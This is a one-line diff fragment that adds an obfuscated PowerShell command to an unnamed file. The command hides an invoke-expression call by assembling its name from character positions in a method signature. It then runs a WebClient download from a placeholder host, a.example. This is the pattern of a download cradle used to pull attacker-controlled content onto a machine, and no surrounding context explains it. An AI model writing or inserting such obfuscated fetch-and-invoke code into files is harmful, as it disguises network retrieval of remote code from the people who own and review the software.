@@ -1,0 +1,1 @@
+&(([String]''.Chars)[15,18,19]-join'') '$c = New-Object Net.WebClient; $c.DownloadString(''http://a.example/p/x.txt'')'
